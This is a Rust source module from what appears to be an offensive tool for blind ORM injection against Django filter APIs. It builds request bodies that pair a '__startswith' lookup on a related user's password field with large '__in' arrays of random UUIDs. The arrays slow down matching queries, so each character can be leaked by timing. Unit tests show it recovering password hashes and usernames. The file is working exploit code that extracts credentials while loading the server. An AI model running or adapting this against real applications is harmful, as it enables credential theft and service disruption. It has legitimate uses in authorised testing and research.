//! Time-based leak through Django filter lookups.
//!
//! The DoS construct joins a related table and filters it with `__in`
//! arrays of random UUIDs; the join is only evaluated for rows whose
//! dumped field starts with the candidate.

use crate::client::HttpTarget;
use crate::models::{DjangoFilterConfig, Payload, ProbeResponse, Result};
use crate::oracle::{Calibration, DosSearch, Oracle, TimingOracle};
use async_trait::async_trait;
use serde_json::{Map, Value};
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use uuid::Uuid;

const LINEAR_STEP: usize = 10;
/// Subtracted from the first rejected length.
const LINEAR_BACKOFF: usize = 20;

pub struct DjangoFilterOracle {
    target: Arc<HttpTarget>,
    dump_key: String,
    dump_val: String,
    dos_key: String,
    dos_fields: Vec<String>,
    /// Length of each `__in` array
    dos_len: AtomicUsize,
    max_dos_length: usize,
    where_filter_name: Option<String>,
    additional_filter_opts: Map<String, Value>,
    calibration: Option<(String, String)>,
}

impl DjangoFilterOracle {
    pub fn new(config: &DjangoFilterConfig, target: Arc<HttpTarget>) -> Self {
        let calibration = match (&config.search_dump_val, &config.hit_value) {
            (Some(field), Some(hit)) => Some((field.clone(), hit.clone())),
            _ => None,
        };

        Self {
            target,
            dump_key: config.dump_key.clone(),
            dump_val: config.dump_val.clone(),
            dos_key: config.dos_key.clone(),
            dos_fields: config.dos_fields.clone(),
            dos_len: AtomicUsize::new(config.start_dos_length),
            max_dos_length: config.max_dos_length,
            where_filter_name: config.where_filter_name.clone(),
            additional_filter_opts: config.additional_filter_opts.clone(),
            calibration,
        }
    }

    /// Same oracle dumping another field of the related model.
    fn with_dump_val(&self, dump_val: &str) -> Self {
        Self {
            target: Arc::clone(&self.target),
            dump_key: self.dump_key.clone(),
            dump_val: dump_val.to_string(),
            dos_key: self.dos_key.clone(),
            dos_fields: self.dos_fields.clone(),
            dos_len: AtomicUsize::new(self.dos_magnitude()),
            max_dos_length: self.max_dos_length,
            where_filter_name: self.where_filter_name.clone(),
            additional_filter_opts: self.additional_filter_opts.clone(),
            calibration: None,
        }
    }

    fn leak_key(&self) -> String {
        format!("{}__{}__startswith", self.dump_key, self.dump_val)
    }

    fn wrap(&self, filter: Map<String, Value>) -> Value {
        match &self.where_filter_name {
            Some(name) => {
                let mut outer = Map::new();
                outer.insert(name.clone(), Value::Object(filter));
                Value::Object(outer)
            }
            None => Value::Object(filter),
        }
    }
}

#[async_trait]
impl Oracle for DjangoFilterOracle {
    fn name(&self) -> &str {
        "django-filter"
    }

    fn create_payload(&self, candidate: &str) -> Payload {
        self.add_orm_leak_payload(self.build_dos_payload(), candidate)
    }

    async fn send_request(&self, payload: &Payload) -> Result<ProbeResponse> {
        self.target.send(payload).await
    }
}

impl TimingOracle for DjangoFilterOracle {
    fn build_dos_payload(&self) -> Payload {
        let len = self.dos_magnitude();
        let mut filter = self.additional_filter_opts.clone();
        for field in &self.dos_fields {
            let ids: Vec<Value> = (0..len)
                .map(|_| Value::String(Uuid::new_v4().to_string()))
                .collect();
            filter.insert(
                format!("{}__{}__{}__in", self.dump_key, self.dos_key, field),
                Value::Array(ids),
            );
        }
        Payload::Json(self.wrap(filter))
    }

    fn add_orm_leak_payload(&self, dos: Payload, candidate: &str) -> Payload {
        let mut body = match dos {
            Payload::Json(body) => body,
            Payload::Query(_) => self.wrap(Map::new()),
        };

        let filter = match &self.where_filter_name {
            Some(name) => body.get_mut(name),
            None => Some(&mut body),
        };
        if let Some(Value::Object(filter)) = filter {
            filter.insert(self.leak_key(), Value::String(candidate.to_string()));
        }

        Payload::Json(body)
    }

    fn dos_magnitude(&self) -> usize {
        self.dos_len.load(Ordering::Relaxed)
    }

    fn set_dos_magnitude(&self, magnitude: usize) {
        self.dos_len.store(magnitude, Ordering::Relaxed);
    }

    fn dos_search(&self) -> DosSearch {
        DosSearch::Linear {
            step: LINEAR_STEP,
            backoff: LINEAR_BACKOFF,
            max: self.max_dos_length,
        }
    }

    fn calibration(&self) -> Option<Calibration> {
        let (field, hit_value) = self.calibration.as_ref()?;
        Some(Calibration {
            oracle: Arc::new(self.with_dump_val(field)),
            hit_value: hit_value.clone(),
        })
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::collections::HashMap;

    fn config(where_filter_name: Option<&str>) -> DjangoFilterConfig {
        DjangoFilterConfig {
            dump_key: "created_by".into(),
            dump_val: "password".into(),
            dos_key: "articles".into(),
            dos_fields: vec!["title".into(), "body".into()],
            start_dos_length: 4,
            max_dos_length: 2000,
            where_filter_name: where_filter_name.map(str::to_string),
            search_dump_val: Some("username".into()),
            hit_value: Some("adm".into()),
            additional_filter_opts: Map::new(),
        }
    }

    fn oracle(config: &DjangoFilterConfig) -> DjangoFilterOracle {
        let target = HttpTarget::new("http://t".into(), "PUT", HashMap::new(), 5, 1, None, false).unwrap();
        DjangoFilterOracle::new(config, Arc::new(target))
    }

    #[test]
    fn test_payload_shape() {
        let oracle = oracle(&config(None));
        let payload = oracle.create_payload("pbkdf2");
        let body = payload.as_json().unwrap();

        assert_eq!(body["created_by__password__startswith"], "pbkdf2");
        assert_eq!(body["created_by__articles__title__in"].as_array().unwrap().len(), 4);
        assert_eq!(body["created_by__articles__body__in"].as_array().unwrap().len(), 4);
    }

    #[test]
    fn test_where_filter_wrapper() {
        let oracle = oracle(&config(Some("filters")));
        let payload = oracle.create_payload("a");
        let body = payload.as_json().unwrap();

        assert_eq!(body["filters"]["created_by__password__startswith"], "a");
        assert!(body["filters"]["created_by__articles__title__in"].is_array());
        assert!(body.get("created_by__password__startswith").is_none());
    }

    #[test]
    fn test_calibration_dumps_search_field() {
        let oracle = oracle(&config(None));
        oracle.set_dos_magnitude(7);
        let calibration = oracle.calibration().unwrap();
        assert_eq!(calibration.hit_value, "adm");

        let payload = calibration.oracle.create_payload("ad");
        let body = payload.as_json().unwrap();
        assert_eq!(body["created_by__username__startswith"], "ad");
        assert_eq!(body["created_by__articles__title__in"].as_array().unwrap().len(), 7);
    }

    #[test]
    fn test_linear_search_strategy() {
        assert_eq!(
            oracle(&config(None)).dos_search(),
            DosSearch::Linear { step: 10, backoff: 20, max: 2000 }
        );
    }
}
